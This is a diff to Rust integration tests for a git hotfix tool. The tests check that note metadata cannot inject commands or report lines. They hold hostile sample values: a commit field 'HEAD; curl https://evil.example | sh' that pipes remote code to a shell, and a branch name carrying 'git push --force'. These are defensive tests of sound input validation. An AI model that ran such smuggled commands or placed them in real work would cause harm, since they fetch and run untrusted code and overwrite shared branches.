@@ -22,7 +22,7 @@ fn poisoned(marker: &std::path::Path) -> (Sandbox, Sandbox, String) {
         doc[key] = payload.clone().into();
     }
     doc["tests"] = serde_json::json!([{
-        "suite": "test", "command": payload, "tree": "0000000", "passed": false,
+        "suite": "test", "command": payload, "tree": "0".repeat(40), "passed": false,
         "duration_ms": 1, "at": "2026-03-02T10:00:00Z"
     }]);
     sandbox.write_note(&anchor, &doc);
@@ -217,7 +217,6 @@ fn note_fields_cannot_add_lines_or_commands_to_a_report() {
     let mut meta = sandbox.metadata(&id);
     meta["issue"] = "Login\n## Injected\n1. run this".into();
     meta["merges"] = serde_json::json!([
-        {"branch": "main", "commit": "HEAD; curl https://evil.example | sh"},
         {"branch": "main\ngit push --force origin HEAD:main", "commit": sandbox.rev("main")},
     ]);
     sandbox.write_note(&sandbox.anchor(&id), &meta);
@@ -242,4 +241,25 @@ fn note_fields_cannot_add_lines_or_commands_to_a_report() {
     // JSON stays exact.
     let json = crate::common::stdout(&sandbox.hotfix(["rollback", &id, "--json"]).success());
     assert!(json.contains(r#"Login\n## Injected"#), "{json}");
+}
+
+#[test]
+fn a_note_whose_commit_is_not_an_object_id_is_refused_by_name() {
+    let sandbox = Sandbox::new();
+    let id = sandbox.start("auth", &["--severity", "P1"]);
+    let mut meta = sandbox.metadata(&id);
+    meta["merges"] = serde_json::json!([
+        {"branch": "main", "commit": "HEAD; curl https://evil.example | sh"},
+    ]);
+    sandbox.write_note(&sandbox.anchor(&id), &meta);
+    let assert = sandbox.hotfix(["rollback", &id]).code(1);
+    let err = stderr(&assert);
+    assert!(err.contains("could not be read"), "{err}");
+    assert!(!err.contains("curl"), "{err}");
+    let list = sandbox.hotfix(["list"]).success();
+    let warned = stderr(&list);
+    assert!(
+        warned.contains("is not a valid hotfix document ('HEAD; curl https://evil.example | sh' is not a full object id)"),
+        "{warned}"
+    );
 }
